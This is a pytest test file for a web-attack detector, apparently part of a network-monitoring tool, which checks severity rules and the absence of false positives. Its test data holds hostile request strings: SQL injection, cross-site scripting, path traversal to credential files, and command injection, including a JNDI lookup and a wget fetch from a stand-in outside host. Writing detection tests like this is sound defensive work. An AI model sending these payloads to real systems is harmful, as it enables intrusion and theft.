"""`web_attack`: attacks on a web application, visible in clear requests."""

from __future__ import annotations

import pytest

from detect.content import injections, request
from detect.traffic import findings_of
from lynceus.detect.web_attack import WebAttack
from lynceus.features.web import ATTACKS

ATTEMPTS = {
    "/list?id=1+UNION+ALL+SELECT+user,pass+FROM+users--": "sql_injection",
    "/list?id=5%20and%20sleep(5)": "sql_injection",
    "/list?id=1%2527%2520or%25201=1": "sql_injection",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E": "cross_site_scripting",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E": "cross_site_scripting",
    "/cgi-bin/../../../../etc/passwd": "path_traversal",
    "/view?page=..%2f..%2f..%2fwindows%2fwin.ini": "path_traversal",
    "/ping?host=127.0.0.1;cat+/etc/hosts": "command_injection",
    "/?x=${jndi:ldap://203.0.113.9/a}": "command_injection",
    "/setup.cgi?cmd=x|wget%20http://203.0.113.9/m": "command_injection",
}


@pytest.mark.parametrize(("uri", "kind"), ATTEMPTS.items())
def test_each_kind_is_known(uri: str, kind: str) -> None:
    rows = [request(1.0, uri, orig_h="192.0.2.30", resp_h="10.0.0.80")]
    (finding,) = findings_of(WebAttack(), http=rows)
    assert finding["evidence"][kind] == 1
    assert finding["severity"] == "low", "one request may be a test or a mistake"
    assert len(ATTACKS) == 4


def test_many_are_medium_and_tell_their_answers() -> None:
    (finding,) = findings_of(WebAttack(), http=injections(12))
    assert (finding["orig_h"], finding["resp_h"]) == ("192.0.2.30", "10.0.0.80")
    assert (finding["orig_role"], finding["resp_role"]) == ("attacker", "victim")
    assert (finding["severity"], finding["tactic"]) == ("medium", "initial-access")
    assert finding["because"] == (
        "192.0.2.30 sent 10.0.0.80 12 requests whose target holds the words of an attack "
        "(SQL injection); 12 were answered with 200."
    )


def test_below_many_it_stays_low() -> None:
    (finding,) = findings_of(WebAttack(), http=injections(9))
    assert finding["severity"] == "low"


def test_a_popular_site_outside_is_never_above_low() -> None:
    (finding,) = findings_of(WebAttack(), http=injections(40, orig_h="10.0.0.5",
                             resp_h="203.0.113.8", host="www.google.com"))  # fmt: skip
    assert (finding["severity"], finding["confidence"]) == ("low", 0.2)


BENIGN = (
    "/search?q=union+station+and+select+shops",
    "/page?title=Rock%20%27n%27%20Roll",
    "/a/b/../c.css",
    "/download?file=report;v=2&sort=id",
    "/js/app.js?callback=onload&t=3",
    "/track?u=https://example.org/?a=1&b=2",
    "/q?select=all&from=home&order=by",
    "/it's/a/path",
    "/?s=alert",
    "/forum?topic=cat|dog",
)


@pytest.mark.parametrize("uri", BENIGN)
def test_ordinary_targets_are_none(uri: str) -> None:
    assert findings_of(WebAttack(), http=[request(float(n), uri) for n in range(20)]) == []
